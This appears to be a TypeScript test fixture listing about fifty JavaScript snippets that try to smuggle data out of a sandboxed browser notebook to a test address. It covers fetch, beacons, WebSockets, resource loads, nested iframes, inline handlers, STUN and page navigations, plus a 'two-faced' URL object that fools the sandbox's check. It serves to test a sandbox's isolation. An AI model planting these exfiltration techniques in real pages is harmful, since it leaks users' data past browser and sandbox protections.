/**
 * Ways for a notebook to send what it knows to `E` (an address), by STUN to `stun`, or by opening a connection to `tcp`.
 * Each is the body of an async function. `arrives`: on a page without policies the attack does arrive, which the control
 * proves; the others are ways that this browser has closed to everybody, or that need a person, and are tried all the same.
 */
export interface Attack {
  readonly name: string;
  readonly arrives: boolean;
  readonly code: string;
}

const element = (tag: string, setup: string): string =>
  `const e = document.createElement("${tag}"); ${setup}; document.body.append(e);`;
/** The worker's code is a template in the attack's own code: its address is filled in there. */
const worker = (code: string): string =>
  `const w = new Worker(URL.createObjectURL(new Blob([\`${code}\`], {type: "text/javascript"}))); await new Promise((done) => { w.onmessage = w.onerror = done; });`;
const link = (rel: string, more = ""): string => element("link", `e.rel = "${rel}"; ${more}; e.href = E + "/${rel}"`);

const list: readonly (readonly [name: string, arrives: boolean, code: string])[] = [
  ["fetch", true, `await fetch(E + "/fetch")`],
  // It says blob: to the kernel, which then hands it to the browser's own fetch, and the address to that one.
  [
    "fetch-two-faced",
    true,
    `let n = globalThis[Symbol.for("bancada.kernel")] ? 0 : 1; await fetch({toString: () => n++ ? E + "/fetch-two-faced" : "blob:x"})`,
  ],
  ["fetch-no-cors", true, `await fetch(E + "/fetch-no-cors", {mode: "no-cors"})`],
  ["fetch-keepalive", true, `await fetch(E + "/fetch-keepalive", {method: "POST", body: "x", keepalive: true})`],
  ["fetch-later", false, `fetchLater(E + "/fetch-later", {activateAfter: 0})`],
  ["beacon", true, `navigator.sendBeacon(E + "/beacon", "x")`],
  [
    "xhr",
    true,
    `await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", E + "/xhr"); x.send(); })`,
  ],
  [
    "websocket",
    true,
    `await new Promise((done) => { const w = new WebSocket(E.replace("http", "ws") + "/websocket"); w.onerror = w.onopen = done; })`,
  ],
  [
    "eventsource",
    true,
    `await new Promise((done) => { const s = new EventSource(E + "/eventsource"); s.onerror = s.onopen = () => { s.close(); done(); }; })`,
  ],
  ["webtransport", false, `await new WebTransport(E.replace("http:", "https:") + "/webtransport").ready`],
  ["import", true, `await import(E + "/import")`],
  ["script", true, element("script", `e.src = E + "/script"`)],
  ["module-script", true, element("script", `e.type = "module"; e.src = E + "/module-script"`)],
  ["image", true, `new Image().src = E + "/image"`],
  [
    "css-background",
    true,
    element("div", `e.style.cssText = "width:9px;height:9px;background:url(" + E + "/css-background)"`),
  ],
  ["css-import", true, element("style", `e.textContent = "@import url(" + E + "/css-import);"`)],
  ["stylesheet", true, element("link", `e.rel = "stylesheet"; e.href = E + "/stylesheet"`)],
  ["prefetch", true, link("prefetch")],
  ["preload", true, link("preload", `e.as = "image"`)],
  ["modulepreload", true, link("modulepreload")],
  ["icon", false, link("icon")],
  ["manifest", false, link("manifest")],
  ["font", true, `await new FontFace("x", "url(" + E + "/font)").load()`],
  ["audio", true, `new Audio(E + "/audio").load()`],
  ["video-poster", true, element("video", `e.poster = E + "/video-poster"`)],
  ["track", false, element("video", `e.innerHTML = '<track default src="' + E + '/track">'`)],
  [
    "svg-use",
    false,
    element("div", `e.innerHTML = '<svg><use href="' + E + '/svg-use#x"/><image href="' + E + '/svg-image"/></svg>'`),
  ],
  ["frame", true, element("iframe", `e.src = E + "/frame"`)],
  ["object", true, element("object", `e.data = E + "/object"`)],
  ["embed", true, element("embed", `e.src = E + "/embed"`)],
  [
    "form",
    true,
    element("iframe", `e.name = "form-target"`) +
      `{ ${element("form", `e.action = E + "/form"; e.target = "form-target"`)} e.submit(); }`,
  ],
  ["popup", false, `window.open(E + "/popup")`],
  [
    "link-blank",
    false,
    element("a", `e.href = E + "/link-blank"; e.target = "_blank"; e.onclick = (event) => event.stopPropagation()`) +
      `e.click()`,
  ],
  ["top-location", false, `if (top !== self) top.location.href = E + "/top-location"`],
  [
    "speculation-rules",
    false,
    element(
      "script",
      `e.type = "speculationrules"; e.textContent = JSON.stringify({prefetch: [{source: "list", urls: [E + "/speculation-rules"]}]})`,
    ),
  ],
  ["worker-fetch", true, worker(`fetch('\${E}/worker-fetch').then(postMessage, postMessage)`)],
  [
    "worker-import-scripts",
    true,
    worker(`try { importScripts('\${E}/worker-import-scripts') } catch {} postMessage(0)`),
  ],
  ["worker-url", false, `new Worker(E + "/worker-url")`],
  ["shared-worker", false, `new SharedWorker(E + "/shared-worker")`],
  ["audio-worklet", true, `await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(E + "/audio-worklet")`],
  [
    "nested-srcdoc-script",
    true,
    element(
      "iframe",
      `e.srcdoc = "<meta http-equiv='Content-Security-Policy' content=''><script>fetch('" + E + "/nested-srcdoc-script')</" + "script>"`,
    ),
  ],
  ["nested-srcdoc-image", true, element("iframe", `e.srcdoc = "<img src='" + E + "/nested-srcdoc-image'>"`)],
  [
    "nested-srcdoc-handler",
    true,
    element("iframe", `e.srcdoc = "<img src='x:' onerror=\\"fetch('" + E + "/nested-srcdoc-handler')\\">"`),
  ],
  [
    "nested-srcdoc-blob-script",
    true,
    `const u = URL.createObjectURL(new Blob(["fetch('" + E + "/nested-srcdoc-blob-script')"], {type: "text/javascript"})); ` +
      element("iframe", `e.srcdoc = "<script src='" + u + "'></" + "script>"`),
  ],
  [
    "nested-refresh",
    true,
    element("iframe", `e.srcdoc = "<meta http-equiv=refresh content='0;url=" + E + "/nested-refresh'>"`),
  ],
  ["nested-javascript", true, element("iframe", `e.src = "javascript:fetch('" + E + "/nested-javascript')"`)],
  ["nested-data", true, element("iframe", `e.src = "data:text/html,<img src='" + E + "/nested-data'>"`)],
  [
    "nested-blob",
    true,
    element(
      "iframe",
      `e.src = URL.createObjectURL(new Blob(["<img src='" + E + "/nested-blob'>"], {type: "text/html"}))`,
    ),
  ],
  [
    "inline-handler",
    true,
    element("div", `e.innerHTML = '<img src="x:" onerror="fetch(\\'' + E + '/inline-handler\\')">'`),
  ],
  ["inline-script", true, element("script", `e.textContent = "fetch('" + E + "/inline-script')"`)],
  [
    "report-to",
    false,
    `new ReportingObserver(() => {}).observe(); ` +
      element(
        "meta",
        `e.httpEquiv = "Content-Security-Policy"; e.content = "img-src 'none'; report-uri " + E + "/report-to"`,
      ),
  ],
  ["preconnect", true, element("link", `e.rel = "preconnect"; e.href = tcp`)],
  [
    "stun",
    true,
    `const c = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:" + stun}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())`,
  ],
  [
    "stun-nested",
    true,
    element(
      "iframe",
      `e.srcdoc = "<script>const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:" + stun + "'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</" + "script>"`,
    ),
  ],
  [
    "stun-borrowed",
    true,
    element("iframe", "") +
      `const c = new e.contentWindow.RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:" + stun}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())`,
  ],
];

export const attacks: readonly Attack[] = list.map(([name, arrives, code]) => ({ name, arrives, code }));

/** Ways to take the frame itself to another address, with what it knows in the address. Each ends the kernel, at most. */
export const navigations: readonly (readonly [name: string, code: string])[] = [
  ["location-href", `location.href = E + "/location-href"`],
  ["location-replace", `location.replace(E + "/location-replace")`],
  ["open-self", `open(E + "/open-self", "_self")`],
  [
    "link-self",
    `${element("a", `e.href = E + "/link-self"; e.onclick = (event) => event.stopPropagation()`)}e.click()`,
  ],
  [
    "link-ping",
    `${element("a", `e.href = "#x"; e.ping = E + "/link-ping"; e.onclick = (event) => event.stopPropagation()`)}e.click()`,
  ],
  ["form-self", `${element("form", `e.action = E + "/form-self"`)}e.submit()`],
  [
    "meta-refresh",
    `const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + E + "/meta-refresh"; document.head.append(m)`,
  ],
  ["navigation-api", `navigation.navigate(E + "/navigation-api")`],
  [
    "document-write",
    `document.open(); document.write("<script>location = '" + E + "/document-write'</" + "script><meta http-equiv=refresh content='0;url=" + E + "/document-write'>"); document.close()`,
  ],
  [
    "nested-parent",
    element(
      "iframe",
      `e.srcdoc = "<a id=a target=_parent href='" + E + "/nested-parent'></a><meta http-equiv=refresh content='0;url=" + E + "/nested-parent'>"`,
    ),
  ],
];
